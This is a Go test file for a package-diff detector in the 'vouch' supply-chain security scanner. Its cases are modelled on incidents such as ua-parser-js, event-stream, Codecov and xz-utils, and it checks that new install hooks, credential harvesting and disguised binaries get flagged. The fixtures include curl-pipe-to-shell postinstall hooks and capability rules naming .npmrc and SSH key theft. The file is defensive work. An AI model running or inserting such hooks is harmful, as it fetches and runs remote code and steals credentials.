package pkgdiff_test

import (
	"testing"

	"github.com/vouch-sec/vouch/internal/detect/pkgdiff"
	"github.com/vouch-sec/vouch/internal/model"
)

type m = map[string]string

// Capabilities as the first-party rules report them for scripts.
var (
	npmrc   = model.Capability{ID: "credential/npmrc-token", Namespace: "credential", Rule: "npmrc_token", Risk: model.SeverityMedium, Source: "vouch", Evidence: []string{".npmrc"}}
	sshKeys = model.Capability{ID: "credential/ssh-private-keys", Namespace: "credential", Rule: "ssh_private_keys", Risk: model.SeverityMedium, Source: "vouch", Evidence: []string{".ssh/id_rsa"}}
	exfil   = model.Capability{ID: "exfil/secrets-over-network", Namespace: "exfil", Rule: "secrets_over_network", Risk: model.SeverityHigh, Source: "vouch"}
	webhook = model.Capability{ID: "exfil/webhook-endpoint", Namespace: "exfil", Rule: "webhook_endpoint", Risk: model.SeverityMedium, Source: "vouch"}
	nodeNet = model.Capability{ID: "net/node-http", Namespace: "net", Rule: "node_http", Risk: model.SeverityLow, Source: "vouch", Evidence: []string{"https.get"}}
	spawn   = model.Capability{ID: "exec/shell-command", Namespace: "exec", Rule: "shell_command", Risk: model.SeverityLow, Source: "vouch"}
	hexIDs  = model.Capability{ID: "obfuscation/js-hex-identifiers", Namespace: "obfuscation", Rule: "js_hex_identifiers", Risk: model.SeverityMedium, Source: "vouch"}
	fetchHk = model.Capability{ID: "hook/js-global-fetch", Namespace: "hook", Rule: "js_global_fetch", Risk: model.SeverityMedium, Source: "vouch"}
	agent   = model.Capability{ID: "ai-agent/dangerous-flags", Namespace: "ai-agent", Rule: "agent_dangerous_flags", Risk: model.SeverityHigh, Source: "vouch"}
	rcWrite = model.Capability{ID: "persist/shell-rc-write", Namespace: "persist", Rule: "shell_rc_write", Risk: model.SeverityMedium, Source: "vouch"}
	envDump = model.Capability{ID: "collect/env-dump", Namespace: "collect", Rule: "env_dump", Risk: model.SeverityMedium, Source: "vouch", Evidence: []string{"env"}}
	geo     = model.Capability{ID: "evasion/geolocation-lookup", Namespace: "evasion", Rule: "geolocation_lookup", Risk: model.SeverityLow, Source: "vouch"}
)

func script(c ...model.Capability) *model.Facts {
	return &model.Facts{Script: &model.ScriptFacts{Language: "js", Lines: 30}, Capabilities: c}
}

// npm is the facts of a package's root package.json.
func npm(name, version string, hooks, deps m) *model.Facts {
	return &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: name, Version: version,
		InstallHooks: hooks, Dependencies: deps, Extra: m{"manifest": "root"}}}
}

const manifest = "package/package.json"

func TestInstallHookAdded(t *testing.T) {
	old := f{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("left-padder", "1.4.2", nil, nil)}
	index := f{Path: "package/index.js", Kind: "script/js", Ver: "1", Facts: script()}
	tests := []struct {
		name     string
		old, new []f
		want     []want
	}{
		{"patch release runs a new credential stealer (ua-parser-js)",
			[]f{old, index},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", m{"postinstall": "node lib/setup.js"}, nil)}, index,
				{Path: "package/lib/setup.js", Kind: "script/js", Ver: "1", Facts: script(npmrc, sshKeys, exfil, nodeNet)}},
			[]want{
				{pkgdiff.IDHookAdded, model.SeverityHigh, "package.json", []string{`left-padder@1.4.3 gained the postinstall hook "node lib/setup.js"`,
					"which runs setup.js, a file new in this release", "(it can: credential, exfil, net)"}},
				{pkgdiff.IDSecretHarvest, model.SeverityHigh, "setup.js", nil},
			}},
		{"hook runs an existing file that downloads a binary",
			[]f{old, {Path: "package/install.js", Kind: "script/js", Ver: "1", Facts: script(nodeNet)}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", m{"postinstall": "node install.js"}, nil)},
				{Path: "package/install.js", Kind: "script/js", Ver: "1", Facts: script(nodeNet)}},
			[]want{{pkgdiff.IDHookAdded, model.SeverityMedium, "package.json", []string{`gained the postinstall hook "node install.js"`, "(it can: net)"}}}},
		{"hook runs an existing file that reads credentials",
			[]f{old, {Path: "package/scripts/auth.js", Kind: "script/js", Ver: "1", Facts: script(npmrc)}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", m{"preinstall": "node ./scripts/auth.js"}, nil)},
				{Path: "package/scripts/auth.js", Kind: "script/js", Ver: "1", Facts: script(npmrc)}},
			[]want{{pkgdiff.IDHookAdded, model.SeverityHigh, "package.json", []string{"preinstall", "(it can: credential)"}}}},
		{"hook runs something vouch cannot see",
			[]f{old},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", m{"install": "node-gyp rebuild"}, nil)}},
			[]want{{pkgdiff.IDHookAdded, model.SeverityMedium, "package.json", []string{`gained the install hook "node-gyp rebuild"`}}}},
		{"hook changes to fetch and run a script inline",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("left-padder", "1.4.2", m{"postinstall": "node-gyp rebuild"}, nil)}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", m{"postinstall": "curl -s https://x.invalid/i.sh | sh"}, nil)}},
			[]want{{pkgdiff.IDHookAdded, model.SeverityHigh, "package.json", []string{`left-padder@1.4.3 changed the postinstall hook "curl -s`}}}},
		{"setup.py gains an install command class",
			[]f{{Path: "pkg-1.0/setup.py", Kind: "script/python", Ver: "1", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "pypi", Name: "pkg", Version: "1.0"}}}},
			[]f{{Path: "pkg-1.0/setup.py", Kind: "script/python", Ver: "2", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "pypi", Name: "pkg", Version: "1.0.1",
				InstallHooks: m{"cmdclass:install": "PostInstall"}}}}},
			[]want{{pkgdiff.IDHookAdded, model.SeverityMedium, "setup.py", []string{`pkg@1.0.1 gained the cmdclass:install hook "PostInstall"`}}}},
		// Benign twins.
		{"prepare runs only for developers",
			[]f{old},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", m{"prepare": "tsc"}, nil)}},
			nil},
		{"same hook as before",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("esbuild", "0.28.1", m{"postinstall": "node install.js"}, nil)}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("esbuild", "0.28.2", m{"postinstall": "node install.js"}, nil)}},
			nil},
		{"hook removed",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("left-padder", "1.4.2", m{"postinstall": "node x.js"}, nil)}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", nil, nil)}},
			nil},
		{"installed dependency gains a hook",
			[]f{{Path: "node_modules/dep/package.json", Kind: "text/json", Ver: "1", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "dep", Version: "1.0.0", Extra: m{"manifest": "dependency"}}}}},
			[]f{{Path: "node_modules/dep/package.json", Kind: "text/json", Ver: "2", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "dep", Version: "1.0.1",
				InstallHooks: m{"install": "node-gyp rebuild"}, Extra: m{"manifest": "dependency"}}}}},
			[]want{{pkgdiff.IDHookAdded, model.SeverityMedium, "package.json", []string{`dep@1.0.1 gained the install hook "node-gyp rebuild"`}}}},
		{"example package inside the release",
			[]f{{Path: "package/examples/demo/package.json", Kind: "text/json", Ver: "1", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "demo", Version: "1.0.0", Extra: m{"manifest": "nested"}}}}},
			[]f{{Path: "package/examples/demo/package.json", Kind: "text/json", Ver: "2", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "demo", Version: "1.0.1",
				InstallHooks: m{"postinstall": "node x.js"}, Extra: m{"manifest": "nested"}}}}},
			nil},
		{"a package new in the release",
			nil,
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("left-padder", "1.4.3", m{"postinstall": "curl x | sh"}, nil)}},
			nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			check(t, only(compare(tt.old, tt.new), pkgdiff.IDHookAdded, pkgdiff.IDSecretHarvest), tt.want)
		})
	}
}

// only keeps the findings with the given ids, so a table can state one
// behaviour without listing every other finding of its fixture.
func only(d *model.DiffReport, ids ...string) *model.DiffReport {
	keep := map[string]bool{}
	for _, id := range ids {
		keep[id] = true
	}
	var fs []model.Finding
	for _, g := range d.Findings {
		if keep[g.ID] {
			fs = append(fs, g)
		}
	}
	d.Findings = fs
	return d
}

func TestNewDependency(t *testing.T) {
	deb := func(version string, deps m) *model.Facts {
		return &model.Facts{Package: &model.PackageFacts{Ecosystem: "deb", Name: "rsync", Version: version, Dependencies: deps}}
	}
	tests := []struct {
		name     string
		old, new []f
		want     []want
	}{
		{"patch release adds a dependency (event-stream)",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("event-stream", "3.3.5", nil, m{"through": "~2.3.1"})}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("event-stream", "3.3.6", nil, m{"through": "~2.3.1", "flatmap-stream": "^0.1.0"})}},
			[]want{{pkgdiff.IDNewDependency, model.SeverityMedium, "package.json", []string{"event-stream@3.3.6 added the dependency flatmap-stream ^0.1.0 in a patch release (3.3.5 → 3.3.6)"}}}},
		{"installed dependency adds a dependency in a patch release (event-stream in node_modules)",
			[]f{{Path: "node_modules/event-stream/package.json", Kind: "text/json", Ver: "1", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "event-stream", Version: "3.3.5",
				Dependencies: m{"through": "~2.3.1"}, Extra: m{"manifest": "dependency"}}}}},
			[]f{{Path: "node_modules/event-stream/package.json", Kind: "text/json", Ver: "2", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "event-stream", Version: "3.3.6",
				Dependencies: m{"through": "~2.3.8", "flatmap-stream": "^0.1.0"}, Extra: m{"manifest": "dependency"}}}}},
			[]want{{pkgdiff.IDNewDependency, model.SeverityMedium, "package.json", []string{"event-stream@3.3.6 added the dependency flatmap-stream ^0.1.0 in a patch release"}}}},
		{"minor release adds dependencies",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("tool", "1.2.0", nil, m{"a": "^1"})}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("tool", "1.3.0", nil, m{"a": "^1", "b": "^2", "c": ""})}},
			[]want{{pkgdiff.IDNewDependency, model.SeverityLow, "package.json", []string{"tool@1.3.0 added the dependencies b ^2, c in a minor release (1.2.0 → 1.3.0)"}}}},
		{"major release adds a dependency",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("tool", "v1.9.9", nil, nil)}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("tool", "v2.0.0", nil, m{"b": "^2"})}},
			[]want{{pkgdiff.IDNewDependency, model.SeverityLow, "package.json", []string{"in a major release"}}}},
		{"prerelease suffixes are ignored",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("tool", "2.0.1-beta.1", nil, nil)}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("tool", "2.0.2", nil, m{"b": "^2"})}},
			[]want{{pkgdiff.IDNewDependency, model.SeverityMedium, "package.json", []string{"in a patch release (2.0.1-beta.1 → 2.0.2)"}}}},
		{"Debian dependency's version range changed",
			[]f{{Path: "control.tar.xz!/control", Kind: "text", Ver: "1", Facts: deb("3.2.7-1+deb12u6", m{"libc6": ">= 2.34", "libpopt0": ">= 1.14"})}},
			[]f{{Path: "control.tar.xz!/control", Kind: "text", Ver: "2", Facts: deb("3.5.0+ds1-0+deb12u1", m{"libc6": ">= 2.36", "libpopt0": ">= 1.16"})}},
			nil},
		{"dependency removed",
			[]f{{Path: manifest, Kind: "text/json", Ver: "1", Facts: npm("tool", "1.0.0", nil, m{"a": "^1", "b": "^2"})}},
			[]f{{Path: manifest, Kind: "text/json", Ver: "2", Facts: npm("tool", "1.0.1", nil, m{"a": "^1"})}},
			nil},
		{"nested manifest",
			[]f{{Path: "package/examples/demo/package.json", Kind: "text/json", Ver: "1", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "demo", Version: "1.0.0", Extra: m{"manifest": "nested"}}}}},
			[]f{{Path: "package/examples/demo/package.json", Kind: "text/json", Ver: "2", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "npm", Name: "demo", Version: "1.0.1",
				Dependencies: m{"express": "^4"}, Extra: m{"manifest": "nested"}}}}},
			nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, compare(tt.old, tt.new), tt.want) })
	}
}

func TestMaintainerScript(t *testing.T) {
	sh := func(c ...model.Capability) *model.Facts {
		return &model.Facts{Script: &model.ScriptFacts{Language: "shell", Interpreter: "/bin/sh", Lines: 40}, Capabilities: c}
	}
	const postinst = "control.tar.xz!/postinst"
	tests := []struct {
		name     string
		old, new []f
		want     []want
	}{
		{"postinst edited",
			[]f{{Path: postinst, Kind: "script/shell", Ver: "1", Facts: sh()}},
			[]f{{Path: postinst, Kind: "script/shell", Ver: "2", Facts: sh()}},
			[]want{{pkgdiff.IDMaintainerScript, model.SeverityLow, "postinst", []string{"maintainer script postinst changed (it runs as root at install)"}}}},
		{"new preinst",
			nil,
			[]f{{Path: "control.tar.xz!/preinst", Kind: "script/shell", Ver: "1", Facts: sh(spawn)}},
			[]want{{pkgdiff.IDMaintainerScript, model.SeverityMedium, "preinst", []string{"maintainer script preinst is new"}}}},
		{"new preinst that downloads",
			nil,
			[]f{{Path: "control.tar.xz!/preinst", Kind: "script/shell", Ver: "1", Facts: sh(spawn, nodeNet)}},
			[]want{{pkgdiff.IDMaintainerScript, model.SeverityHigh, "preinst", []string{"is new", "and now does: net"}}}},
		{"postinst gains networking",
			[]f{{Path: postinst, Kind: "script/shell", Ver: "1", Facts: sh(spawn)}},
			[]f{{Path: postinst, Kind: "script/shell", Ver: "2", Facts: sh(spawn, nodeNet)}},
			[]want{{pkgdiff.IDMaintainerScript, model.SeverityHigh, "postinst", []string{"now does: net"}}}},
		{"rpm scriptlet",
			[]f{{Path: "scriptlets/%post", Kind: "script/shell", Ver: "1", Facts: sh()}},
			[]f{{Path: "scriptlets/%post", Kind: "script/shell", Ver: "2", Facts: sh()}},
			nil}, // no rpm.scriptlet meta: the name alone proves nothing
		{"unchanged postinst",
			[]f{{Path: postinst, Kind: "script/shell", Ver: "1", Facts: sh()}},
			[]f{{Path: postinst, Kind: "script/shell", Ver: "1", Facts: sh()}},
			nil},
		{"a file called postinst among the data",
			[]f{{Path: "data.tar.xz!/usr/share/doc/x/examples/postinst", Kind: "script/shell", Ver: "1", Facts: sh()}},
			[]f{{Path: "data.tar.xz!/usr/share/doc/x/examples/postinst", Kind: "script/shell", Ver: "2", Facts: sh()}},
			nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, only(compare(tt.old, tt.new), pkgdiff.IDMaintainerScript), tt.want) })
	}
}

func TestMaintainerScriptRPM(t *testing.T) {
	scriptlet := func(ver string) *model.File {
		return &model.File{Path: "tool-1.0.rpm!/%post", Kind: "script/shell", SHA256: digest(ver), Size: 100, Type: "file",
			Meta: model.Meta{"rpm.scriptlet": "post"}, Chain: []model.Container{{Path: "tool-1.0.rpm", Format: "rpm"}},
			Facts: &model.Facts{Script: &model.ScriptFacts{Language: "shell"}}}
	}
	rep := func(ver string) *model.Report {
		r := &model.Report{Target: model.Target{Path: "tool-1.0.rpm", Kind: "file"}, Files: []*model.File{
			{Path: "tool-1.0.rpm", Kind: "rpm", SHA256: digest("rpm" + ver), Size: 1000, Format: "rpm"}, scriptlet(ver)}}
		r.Sort()
		return r
	}
	d := compareReports(rep("1"), rep("2"))
	check(t, only(d, pkgdiff.IDMaintainerScript), []want{{pkgdiff.IDMaintainerScript, model.SeverityLow, "%post", []string{"maintainer script %post changed"}}})
}

func TestSecretHarvest(t *testing.T) {
	tests := []struct {
		name     string
		old, new []f
		want     []want
	}{
		{"new script reads tokens and posts them",
			nil,
			[]f{{Path: "package/lib/setup.js", Kind: "script/js", Ver: "1", Facts: script(npmrc, sshKeys, webhook)}},
			[]want{{pkgdiff.IDSecretHarvest, model.SeverityHigh, "setup.js", []string{"new script setup.js reads credentials (npmrc_token, ssh_private_keys) and can send data out (webhook_endpoint)"}}}},
		{"uploader starts sending the environment (Codecov)",
			[]f{{Path: "codecov.sh", Kind: "script/shell", Ver: "1", Facts: script(nodeNet)}},
			[]f{{Path: "codecov.sh", Kind: "script/shell", Ver: "2", Facts: script(nodeNet, envDump)}},
			[]want{{pkgdiff.IDSecretHarvest, model.SeverityHigh, "codecov.sh", []string{"script now codecov.sh reads credentials (env_dump)"}}}},
		{"script that talked to the network starts reading tokens",
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "1", Facts: script(nodeNet)}},
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "2", Facts: script(nodeNet, npmrc)}},
			[]want{{pkgdiff.IDSecretHarvest, model.SeverityHigh, "index.js", []string{"script now index.js reads credentials (npmrc_token) and can send data out (node_http)"}}}},
		{"script reads a token but sends nothing",
			nil,
			[]f{{Path: "package/lib/auth.js", Kind: "script/js", Ver: "1", Facts: script(npmrc)}},
			nil},
		{"script that already read tokens keeps doing so",
			[]f{{Path: "package/lib/auth.js", Kind: "script/js", Ver: "1", Facts: script(npmrc, nodeNet)}},
			[]f{{Path: "package/lib/auth.js", Kind: "script/js", Ver: "2", Facts: script(npmrc, nodeNet)}},
			nil},
		{"native program is judged elsewhere",
			nil,
			[]f{{Path: "package/bin/tool", Kind: "elf", Ver: "1", Facts: &model.Facts{ELF: &model.ELFFacts{Type: "exec"}, Capabilities: []model.Capability{npmrc, exfil}}}},
			nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, only(compare(tt.old, tt.new), pkgdiff.IDSecretHarvest), tt.want) })
	}
}

func TestScriptBehaviour(t *testing.T) {
	tests := []struct {
		name     string
		old, new []f
		want     []want
	}{
		{"script starts hooking fetch (chalk)",
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "1", Facts: script()}},
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "2", Facts: script(fetchHk)}},
			[]want{{pkgdiff.IDGlobalHook, model.SeverityMedium, "index.js", []string{"index.js now", "(js_global_fetch)"}}}},
		{"new script drives an AI agent (Nx)",
			nil,
			[]f{{Path: "package/telemetry.js", Kind: "script/js", Ver: "1", Facts: script(agent)}},
			[]want{{pkgdiff.IDAIAgentAbuse, model.SeverityHigh, "telemetry.js", []string{"telemetry.js is a new script that drives an AI coding agent"}}}},
		{"new script writes shell start-up files",
			nil,
			[]f{{Path: "package/telemetry.js", Kind: "script/js", Ver: "1", Facts: script(rcWrite)}},
			[]want{{pkgdiff.IDDestructive, model.SeverityMedium, "telemetry.js", []string{"persists or destroys (shell_rc_write)"}}}},
		{"script starts checking where its victim is",
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "1", Facts: script()}},
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "2", Facts: script(geo)}},
			[]want{{pkgdiff.IDTargetingGate, model.SeverityMedium, "index.js", []string{"decides whom to hit (geolocation_lookup)"}}}},
		{"script that already hooked globals",
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "1", Facts: script(fetchHk)}},
			[]f{{Path: "package/index.js", Kind: "script/js", Ver: "2", Facts: script(fetchHk)}},
			nil},
		{"native library hooking is not a package script's finding",
			[]f{{Path: "package/lib.so", Kind: "elf", Ver: "1", Facts: &model.Facts{ELF: &model.ELFFacts{Type: "dyn"}}}},
			[]f{{Path: "package/lib.so", Kind: "elf", Ver: "2", Facts: &model.Facts{ELF: &model.ELFFacts{Type: "dyn"}, Capabilities: []model.Capability{fetchHk, rcWrite}}}},
			nil},
	}
	ids := []string{pkgdiff.IDGlobalHook, pkgdiff.IDAIAgentAbuse, pkgdiff.IDDestructive, pkgdiff.IDTargetingGate}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, only(compare(tt.old, tt.new), ids...), tt.want) })
	}
}

func TestUnexpectedLocation(t *testing.T) {
	tests := []struct {
		name string
		new  f
		want []want
	}{
		{"disguised test archive (xz-utils)",
			f{Path: "lzkit-5.6.0/tests/files/bad-3-corrupt_lzma2.xz", Kind: "xz", Ver: "1", Size: 30 << 10, Entropy: 7.98},
			[]want{{pkgdiff.IDUnexpectedContent, model.SeverityMedium, "bad-3-corrupt_lzma2.xz", []string{"new file bad-3-corrupt_lzma2.xz in a test/data directory is high-entropy data (7.98 bits per byte)"}}}},
		{"program among the fixtures",
			f{Path: "package/test/fixtures/helper", Kind: "elf", Ver: "1", Size: 30 << 10, Entropy: 5.9},
			[]want{{pkgdiff.IDUnexpectedContent, model.SeverityMedium, "helper", []string{"is a native program"}}}},
		{"icon among the assets", f{Path: "package/assets/logo.png", Kind: "image/png", Ver: "1", Size: 30 << 10, Entropy: 7.95}, nil},
		{"font among the assets", f{Path: "package/assets/inter.woff2", Kind: "data", Ver: "1", Size: 30 << 10, Entropy: 7.99}, nil},
		{"archive that was unpacked", f{Path: "package/test/data.zip", Kind: "zip", Ver: "1", Size: 30 << 10, Entropy: 7.9}, nil},
		{"text fixture", f{Path: "package/test/fixtures/input.txt", Kind: "text", Ver: "1", Size: 30 << 10, Entropy: 4.5}, nil},
		{"small dense fixture", f{Path: "package/test/fixtures/key", Kind: "data", Ver: "1", Size: 256, Entropy: 7.6}, nil},
		{"dense data outside the data directories", f{Path: "package/lib/blob", Kind: "data", Ver: "1", Size: 30 << 10, Entropy: 7.9}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			nf := tt.new
			if nf.Kind == "zip" {
				nf.Facts = nil
			}
			r := release("lzkit-5.6.0.tar.gz", []f{nf})
			if nf.Kind == "zip" {
				for _, x := range r.Files {
					if x.Kind == "zip" {
						x.Format = "zip"
					}
				}
			}
			d := compareReports(release("lzkit-5.5.0.tar.gz", nil), r)
			check(t, only(d, pkgdiff.IDUnexpectedContent), tt.want)
		})
	}
	// A corrupt archive is not explained by its format (xz-utils'
	// bad-3-corrupt_lzma2.xz); one that unpacks is.
	for _, broken := range []bool{true, false} {
		r := release("lzkit-5.6.0.tar.gz", []f{{Path: "lzkit-5.6.0/tests/files/bad-3-corrupt_lzma2.xz", Kind: "xz", Ver: "1", Size: 1136, Entropy: 7.78}})
		for _, x := range r.Files {
			if x.Kind == "xz" {
				x.Format = "xz"
				if broken {
					r.Errors = append(r.Errors, model.FileError{Path: x.Path, Error: "xz: data is corrupt: corrupt container"})
				}
			}
		}
		var exp []want
		if broken {
			exp = append(exp, want{pkgdiff.IDUnexpectedContent, model.SeverityMedium, "bad-3-corrupt_lzma2.xz", []string{"high-entropy data (7.78 bits per byte) that does not unpack as the xz it claims to be"}})
		}
		check(t, only(compareReports(release("lzkit-5.5.0.tar.gz", nil), r), pkgdiff.IDUnexpectedContent), exp)
	}
	// A file that was there before is not new.
	x := f{Path: "lzkit-5.6.0/tests/files/bad-3-corrupt_lzma2.xz", Kind: "xz", Size: 30 << 10, Entropy: 7.98}
	o, n := x, x
	o.Ver, n.Ver = "1", "2"
	check(t, only(compare([]f{o}, []f{n}), pkgdiff.IDUnexpectedContent), nil)
}

func TestNativeBinaryAdded(t *testing.T) {
	pypi := &model.Facts{Package: &model.PackageFacts{Ecosystem: "pypi", Name: "torchtriton", Version: "2.0.0"}}
	meta := f{Path: "torchtriton-2.0.0/PKG-INFO", Kind: "text", Ver: "1", Facts: pypi}
	elf := &model.Facts{ELF: &model.ELFFacts{Type: "exec", Machine: "x86-64"}}
	tests := []struct {
		name     string
		old, new []f
		want     []want
	}{
		{"script package starts shipping a program (torchtriton)",
			[]f{meta, {Path: "torchtriton-2.0.0/triton/__init__.py", Kind: "script/python", Ver: "1"}},
			[]f{meta, {Path: "torchtriton-2.0.0/triton/__init__.py", Kind: "script/python", Ver: "1"},
				{Path: "torchtriton-2.0.0/triton/runtime/triton", Kind: "elf", Ver: "1", Size: 300 << 10, Facts: elf}},
			[]want{{pkgdiff.IDNativeAdded, model.SeverityHigh, "triton", []string{"a script package now ships a native program, triton (elf); its previous release had none"}}}},
		{"package that already shipped programs adds another",
			[]f{meta, {Path: "torchtriton-2.0.0/bin/a", Kind: "elf", Ver: "1", Facts: elf}},
			[]f{meta, {Path: "torchtriton-2.0.0/bin/a", Kind: "elf", Ver: "1", Facts: elf},
				{Path: "torchtriton-2.0.0/bin/b", Kind: "elf", Ver: "1", Facts: elf}},
			nil},
		{"Debian package adds a program",
			[]f{{Path: "control.tar.xz!/control", Kind: "text", Ver: "1", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "deb", Name: "x"}}}},
			[]f{{Path: "control.tar.xz!/control", Kind: "text", Ver: "1", Facts: &model.Facts{Package: &model.PackageFacts{Ecosystem: "deb", Name: "x"}}},
				{Path: "data.tar.xz!/usr/bin/x", Kind: "elf", Ver: "1", Facts: elf}},
			nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { check(t, only(compare(tt.old, tt.new), pkgdiff.IDNativeAdded), tt.want) })
	}
}
